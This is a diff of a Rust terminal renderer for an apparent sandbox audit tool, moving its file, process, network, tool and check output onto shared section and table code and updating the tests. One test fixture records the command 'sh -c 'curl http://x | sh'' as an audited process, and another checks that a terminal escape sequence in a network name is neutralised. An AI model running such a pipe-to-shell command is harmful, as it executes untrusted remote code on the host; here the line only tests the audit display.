@@ -1,11 +1,18 @@
-//! The terminal renderer.
+//! The terminal renderer: the audit as lines for a person at a terminal, in color when asked.
+//!
+//! It shows the header (target, verdict, what the run recorded), then the sections of
+//! [`crate::sections`] a terminal has room for: the files touched under home, the processes,
+//! the connection attempts, the network, the tools, and the checks with each check's findings
+//! and notes under it (the HTML and Markdown reports show the findings apart, and add the
+//! timeline). A table has no heading row here: each value reads as its column's [`Line`]
+//! says, padded columns aligned up to [`COLUMN`] characters. Every string is printable
+//! already (see [`crate::escape`]); the only escape sequences written are this module's own
+//! colors, and only when asked for.
 
 use crate::escape;
-use crate::tables::{
-    self, phases, FileUse, Row, CONNECTIONS_CAP, FILES_CAP, FINDINGS_CAP, FLOWS_CAP, NAME,
-    NOTES_CAP, PROCESSES_CAP, TOOLS_CAP, WIDE,
-};
-use glassbox_model::{AuditReport, CallResult, CheckResult, Evidence, Finding, Outcome, Verdict};
+use crate::sections::{self, Body, Cell, Check, Items, Line, Mark, Section, Table};
+use crate::tables;
+use glassbox_model::{AuditReport, Evidence, Outcome, Verdict};
 use std::fmt::Write as _;
 
 /// Widest first column before it stops being padded.
@@ -39,12 +46,14 @@ pub(crate) fn render(ev: &Evidence, report: &AuditReport, color: bool) -> String
     let st = Style { color };
     let mut out = String::new();
     header(&mut out, &st, ev, report);
-    files(&mut out, &st, ev);
-    processes(&mut out, &st, ev);
-    connections(&mut out, &st, ev);
-    network(&mut out, &st, ev);
-    tools(&mut out, &st, report);
-    checks(&mut out, &st, report);
+    let [checks, _] = sections::check_sections(report);
+    for sec in sections::event_sections(ev).into_iter().chain([
+        sections::network_section(ev),
+        sections::tools_section(ev, report),
+        checks,
+    ]) {
+        section(&mut out, &st, &sec);
+    }
     out
 }
 
@@ -80,31 +89,6 @@ fn header(out: &mut String, st: &Style, ev: &Evidence, report: &AuditReport) {
     }
 }
 
-/// Writes "  none" and returns `None` when `rows` is empty; else the width of the first column
-/// over the first `cap` rows (at most [`COLUMN`]).
-fn first_column_width<T: AsRef<str>, U>(
-    out: &mut String,
-    rows: &[Row<(T, U)>],
-    cap: usize,
-) -> Option<usize> {
-    if rows.is_empty() {
-        let _ = writeln!(out, "  none");
-        return None;
-    }
-    rows.iter()
-        .take(cap)
-        .map(|r| r.data.0.as_ref().chars().count().min(COLUMN))
-        .max()
-}
-
-fn times(count: usize) -> String {
-    if count > 1 {
-        format!(" ×{count}")
-    } else {
-        String::new()
-    }
-}
-
 fn pad(s: &str, width: usize) -> String {
     let n = s.chars().count();
     if n >= width {
@@ -121,173 +105,6 @@ fn more(out: &mut String, st: &Style, shown: usize, total: usize, indent: &str, 
     }
 }
 
-fn files(out: &mut String, st: &Style, ev: &Evidence) {
-    st.heading(out, "Files touched under home");
-    let Some(rows) = tables::files(ev) else {
-        let _ = writeln!(out, "  (home directory not recorded in the manifest)");
-        return;
-    };
-    let Some(width) = first_column_width(out, &rows, FILES_CAP) else {
-        return;
-    };
-    let what_width = rows
-        .iter()
-        .take(FILES_CAP)
-        .map(|r| r.data.1.text().len())
-        .max()
-        .unwrap_or(0);
-    for r in rows.iter().take(FILES_CAP) {
-        let (path, u): &(String, FileUse) = &r.data;
-        let _ = writeln!(
-            out,
-            "  {}{}{}{}",
-            pad(&escape::truncate(path, WIDE), width),
-            pad(&u.text(), what_width),
-            phases(&r.phases),
-            times(r.count)
-        );
-    }
-    more(out, st, FILES_CAP, rows.len(), "  ", "events.jsonl");
-}
-
-fn processes(out: &mut String, st: &Style, ev: &Evidence) {
-    st.heading(out, "Processes");
-    let rows = tables::processes(ev);
-    if rows.is_empty() {
-        let _ = writeln!(out, "  none");
-        return;
-    }
-    for r in rows.iter().take(PROCESSES_CAP) {
-        let p = &r.data;
-        let ids = pad(&format!("pid {} (parent {})", p.pid, p.ppid), 22);
-        let _ = writeln!(
-            out,
-            "  {ids}{}  {}{}",
-            p.argv,
-            st.paint(DIM, &phases(&r.phases)),
-            times(r.count)
-        );
-    }
-    more(out, st, PROCESSES_CAP, rows.len(), "  ", "events.jsonl");
-}
-
-fn connections(out: &mut String, st: &Style, ev: &Evidence) {
-    st.heading(out, "Connection attempts");
-    let rows = tables::connections(ev);
-    let Some(width) = first_column_width(out, &rows, CONNECTIONS_CAP) else {
-        return;
-    };
-    for r in rows.iter().take(CONNECTIONS_CAP) {
-        let (dest, syscall) = &r.data;
-        let _ = writeln!(
-            out,
-            "  {}{}  {}{}",
-            pad(&escape::truncate(dest, WIDE), width),
-            pad(syscall, 7),
-            phases(&r.phases),
-            times(r.count)
-        );
-    }
-    more(out, st, CONNECTIONS_CAP, rows.len(), "  ", "events.jsonl");
-}
-
-/// What reached the network edge, per run: how each run's edge was set up and checked, then
-/// the flows grouped by run, protocol and destination (with the names behind them).
-fn network(out: &mut String, st: &Style, ev: &Evidence) {
-    let net = &ev.manifest.network;
-    if net.runs.is_empty() {
-        return;
-    }
-    st.heading(out, "Network (every packet ends at glassbox's edge)");
-    for r in tables::runs(ev) {
-        let isolation = if r.isolation_verified {
-            st.paint(GREEN, "isolation verified")
-        } else {
-            st.paint(RED, "isolation NOT verified")
-        };
-        let _ = writeln!(
-            out,
-            "  {} run: {} packets, {} flows; {isolation}; {} calls with no packet",
-            r.mode, r.packets, r.flows, r.calls_without_flow
-        );
-    }
-    let groups = tables::flows(ev);
-    if groups.is_empty() {
-        let _ = writeln!(out, "  no flows");
-        return;
-    }
-    for g in groups.iter().take(FLOWS_CAP) {
-        let key = format!("{:<7} {:<4} {}", g.mode.name(), g.protocol, g.destination);
-        let read = match g.read.is_empty() {
-            true => String::new(),
-            false => format!("; {}", g.read),
-        };
-        let _ = writeln!(
-            out,
-            "  {}  {} flows, {} packets, {} bytes out{read}",
-            escape::truncate(&key, WIDE),
-            g.flows,
-            g.packets,
-            g.bytes
-        );
-    }
-    more(out, st, FLOWS_CAP, groups.len(), "  ", "network.jsonl");
-}
-
-fn tools(out: &mut String, st: &Style, report: &AuditReport) {
-    st.heading(out, &format!("Tools ({})", report.tools.len()));
-    if report.tools.is_empty() {
-        let _ = writeln!(out, "  none listed");
-        return;
-    }
-    let names: Vec<String> = report
-        .tools
-        .iter()
-        .map(|t| escape::truncate(&escape::text(&t.name), NAME))
-        .collect();
-    let width = names
-        .iter()
-        .take(TOOLS_CAP)
-        .map(|n| n.chars().count().min(COLUMN))
-        .max()
-        .unwrap_or(0);
-    for (t, name) in report.tools.iter().zip(&names).take(TOOLS_CAP) {
-        let counts = t.outcomes();
-        let text = tables::outcomes(&counts);
-        let result = match counts.as_slice() {
-            [(CallResult::Ok, _)] => st.paint(GREEN, &text),
-            [(CallResult::NotCalled, _)] => st.paint(DIM, &text),
-            _ => st.paint(YELLOW, &text),
-        };
-        if t.called {
-            let _ = writeln!(out, "  {}called  {result}", pad(name, width));
-        } else {
-            let _ = writeln!(out, "  {}{}", pad(name, width), st.paint(DIM, "not called"));
-        }
-    }
-    more(out, st, TOOLS_CAP, report.tools.len(), "  ", "report.json");
-    if let Some(totals) = tables::call_totals(report) {
-        let _ = writeln!(out, "  {}", st.paint(DIM, &totals));
-    }
-    let rows = tables::call_rows(report);
-    if !rows.is_empty() {
-        let _ = writeln!(
-            out,
-            "  {}",
-            st.paint(DIM, "calls (what findings name as their phase):")
-        );
-        for r in rows.iter().take(TOOLS_CAP) {
-            let note = if r.note.is_empty() {
-                String::new()
-            } else {
-                format!("  ({})", r.note)
-            };
-            let _ = writeln!(out, "    {}  {}: {}{note}", r.phase, r.label, r.outcome);
-        }
-        more(out, st, TOOLS_CAP, rows.len(), "    ", "report.json");
-    }
-}
-
 /// The verdict and the checks only (for re-evaluations, which keep no event tables).
 pub(crate) fn render_checks(report: &AuditReport, color: bool) -> String {
     let st = Style { color };
@@ -300,22 +117,122 @@ pub(crate) fn render_checks(report: &AuditReport, color: bool) -> String {
     if let Some(r) = &report.inconclusive_reason {
         let _ = writeln!(out, "  reason    {}", escape::text(r));
     }
-    checks(&mut out, &st, report);
+    let [checks, _] = sections::check_sections(report);
+    section(&mut out, &st, &checks);
     out
 }
 
-fn checks(out: &mut String, st: &Style, report: &AuditReport) {
-    st.heading(out, "Checks");
-    if report.checks.is_empty() {
-        let _ = writeln!(out, "  none evaluated");
-        return;
-    }
-    for c in &report.checks {
-        check(out, st, c);
+/// A section ([`sections::Section`]): its heading, then its body.
+fn section(out: &mut String, st: &Style, sec: &Section) {
+    st.heading(out, &sec.title);
+    body(out, st, &sec.body);
+}
+
+fn body(out: &mut String, st: &Style, b: &Body) {
+    match b {
+        // In the terminal's own voice: lower case, no full stop ("None." is "none").
+        Body::Note(why) => {
+            let why = why.strip_suffix('.').unwrap_or(why);
+            let mut chars = why.chars();
+            let first = chars.next().map(|c| c.to_lowercase().to_string());
+            let _ = writeln!(out, "  {}{}", first.unwrap_or_default(), chars.as_str());
+        }
+        Body::Text(text) => {
+            let _ = writeln!(out, "  {}", st.paint(DIM, text));
+        }
+        Body::Table(t) => table(out, st, t),
+        // The terminal writes each check's findings and notes under it.
+        Body::Checks(checks) | Body::Findings(checks) => {
+            for c in checks {
+                check(out, st, c);
+            }
+        }
+        Body::Parts(parts) => {
+            for p in parts {
+                body(out, st, p);
+            }
+        }
     }
 }
 
-fn check(out: &mut String, st: &Style, c: &CheckResult) {
+/// A value of a table's row as a line shows it: its column, its text, and whether it is a
+/// status that holds (green) or not (red).
+struct Shown {
+    column: usize,
+    text: String,
+    good: Option<bool>,
+}
+
+/// A table as lines without headings: each column as its [`Line`] says, two spaces apart,
+/// the values of a padded column aligned (up to [`COLUMN`] characters).
+fn table(out: &mut String, st: &Style, t: &Table) {
+    // Each row's values, and the `×N` it ends with.
+    let rows: Vec<(Vec<Shown>, String)> = t
+        .rows
+        .iter()
+        .map(|r| {
+            let mut shown = Vec::new();
+            let mut times = String::new();
+            for (n, (column, c)) in t.columns.iter().zip(r).enumerate() {
+                let (value, good) = match c {
+                    Cell::Mono(t) | Cell::Text(t) | Cell::Own(t) => (t.clone(), None),
+                    Cell::Num(n) => (n.to_string(), None),
+                    Cell::Ms(ns) => (tables::ms(*ns), None),
+                    Cell::Status { good, text } => (text.to_string(), Some(*good)),
+                };
+                let value = match column.line {
+                    Line::Pad | Line::Plain => value,
+                    Line::Named => format!("{} {value}", column.title),
+                    Line::Unit => format!("{value} {}", column.title),
+                    Line::Times => {
+                        if let Cell::Num(n @ 2..) = c {
+                            times = format!(" ×{n}");
+                        }
+                        continue;
+                    }
+                    Line::Omit => continue,
+                };
+                if !value.is_empty() {
+                    shown.push(Shown {
+                        column: n,
+                        text: value,
+                        good,
+                    });
+                }
+            }
+            (shown, times)
+        })
+        .collect();
+    let mut widths = vec![0; t.columns.len()];
+    for v in rows.iter().flat_map(|(shown, _)| shown) {
+        widths[v.column] = widths[v.column].max(v.text.chars().count().min(COLUMN));
+    }
+    for (shown, times) in &rows {
+        let mut line = String::from("  ");
+        for (k, v) in shown.iter().enumerate() {
+            let painted = match v.good {
+                Some(true) => st.paint(GREEN, &v.text),
+                Some(false) => st.paint(RED, &v.text),
+                None => v.text.clone(),
+            };
+            line.push_str(&painted);
+            if k + 1 < shown.len() {
+                let width = match t.columns[v.column].line {
+                    Line::Plain => 0,
+                    _ => widths[v.column],
+                };
+                let used = v.text.chars().count();
+                line.push_str(&" ".repeat(width.saturating_sub(used) + 2));
+            }
+        }
+        let _ = writeln!(out, "{line}{times}");
+    }
+    more(out, st, t.rows.len(), t.total, "  ", t.see);
+}
+
+/// A check's line (its id, outcome, claim and severity), its reason, then its findings and
+/// notes.
+fn check(out: &mut String, st: &Style, c: &Check) {
     let (label, code) = match c.outcome {
         Outcome::Pass => ("pass", GREEN),
         Outcome::Flag => ("FLAG", RED),
@@ -324,9 +241,9 @@ fn check(out: &mut String, st: &Style, c: &CheckResult) {
         Outcome::Inconclusive => ("inconclusive", YELLOW),
         Outcome::Retracted => ("retracted", YELLOW),
     };
-    let id = format!("{} v{}", escape::text(&c.id), c.version);
+    let id = format!("{} v{}", c.id, c.version);
     let severity = if c.outcome == Outcome::Flag {
-        format!(" ({})", format!("{:?}", c.severity).to_lowercase())
+        format!(" ({})", tables::severity(c.severity))
     } else {
         String::new()
     };
@@ -335,55 +252,48 @@ fn check(out: &mut String, st: &Style, c: &CheckResult) {
         "  {}{}  {}{severity}",
         pad(&id, 22),
         st.paint(code, &format!("{label:<12}")),
-        escape::text(&c.claim)
+        c.claim
     );
     if let Some(reason) = &c.reason {
-        let _ = writeln!(out, "      {}", st.paint(DIM, &escape::text(reason)));
+        let _ = writeln!(out, "      {}", st.paint(DIM, reason));
     }
-    for f in c.findings.iter().take(FINDINGS_CAP) {
-        finding(out, st, "✗", f);
-    }
-    more(
-        out,
-        st,
-        FINDINGS_CAP,
-        c.findings.len(),
-        "      ",
-        "report.json",
-    );
-    for n in c.notes.iter().take(NOTES_CAP) {
-        finding(out, st, "·", n);
-    }
-    more(out, st, NOTES_CAP, c.notes.len(), "      ", "report.json");
+    items(out, st, &c.findings);
+    items(out, st, &c.notes);
 }
 
-fn finding(out: &mut String, st: &Style, mark: &str, f: &Finding) {
-    let mut refs = tables::id_list("event", &f.evidence);
-    if let Some(p) = &f.phase {
-        if !refs.is_empty() {
-            refs.push_str("; ");
-        }
-        refs.push_str(&escape::text(&p.to_string()));
-    }
-    let mark = if mark == "✗" {
-        st.paint(RED, mark)
-    } else {
-        mark.to_string()
+/// Findings or notes, each with its events and phase, then how many more there are.
+fn items(out: &mut String, st: &Style, list: &Items) {
+    let mark = match list.mark {
+        Mark::Finding => st.paint(RED, list.mark.glyph()),
+        Mark::Note => list.mark.glyph().to_string(),
     };
-    let _ = write!(out, "    {mark} {}", escape::text(&f.summary));
-    if !refs.is_empty() {
-        let _ = write!(out, "  {}", st.paint(DIM, &format!("[{refs}]")));
+    for i in &list.shown {
+        let mut refs = i.events.clone();
+        if let Some(p) = &i.phase {
+            if !refs.is_empty() {
+                refs.push_str("; ");
+            }
+            refs.push_str(p);
+        }
+        let _ = write!(out, "    {mark} {}", i.summary);
+        if !refs.is_empty() {
+            let _ = write!(out, "  {}", st.paint(DIM, &format!("[{refs}]")));
+        }
+        out.push('\n');
     }
-    out.push('\n');
+    more(out, st, list.shown.len(), list.total, "      ", list.see);
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::fixture::{event, exec, open};
+    use crate::tables::{
+        CONNECTIONS_CAP, FILES_CAP, FINDINGS_CAP, NOTES_CAP, PROCESSES_CAP, TOOLS_CAP,
+    };
     use glassbox_model::{
-        Bytes, EventKind, Manifest, Phase, SandboxSettings, SessionSummary, Severity, SockAddr,
-        Target, ToolSummary,
+        Bytes, CallResult, CheckResult, EventKind, Finding, Manifest, Phase, SandboxSettings,
+        SessionSummary, Severity, SockAddr, Target, ToolSummary,
     };
 
     fn evidence(kinds: Vec<(Phase, EventKind)>) -> Evidence {
@@ -564,7 +474,7 @@ mod tests {
         assert!(line("~/.bashrc").contains("write"));
         assert!(line("~/project/package.json").contains("read"));
         assert!(!out.contains("/usr/lib/node"), "only files under home");
-        assert!(line("pid 9 (parent 1)").contains("sh -c 'curl http://x | sh'"));
+        assert!(line("pid 9  parent 1").contains("sh -c 'curl http://x | sh'"));
         let conn = line("198.18.0.7:443");
         assert!(
             conn.contains("connect") && conn.contains("call:get_weather"),
@@ -786,17 +696,25 @@ mod network_tests {
             ],
         };
         let mut out = String::new();
-        network(&mut out, &Style { color: false }, &ev);
+        section(
+            &mut out,
+            &Style { color: false },
+            &sections::network_section(&ev),
+        );
         assert!(
-            out.contains("capture run: 0 packets, 2 flows; isolation verified"),
+            out.contains(
+                "  capture  0 packets  2 flows  isolation verified  0 calls with no packet\n"
+            ),
             "{out}"
         );
         assert!(
-            out.contains("capture tcp  192.0.2.80:443 SNI dns.google\\u{1b}[2J  2 flows, 6 packets, 1034 bytes out"),
+            out.contains("  capture  tcp  192.0.2.80:443 SNI dns.google\\u{1b}[2J  2 flows  6 packets out  1034 bytes out\n"),
             "{out}"
         );
         assert!(
-            out.contains("denied  tcp  192.0.2.80:443 SNI x  1 flows"),
+            out.contains(
+                "  denied   tcp  192.0.2.80:443 SNI x                    1 flows  3 packets out"
+            ),
             "{out}"
         );
         assert!(!out.contains('\x1b'), "{out}");
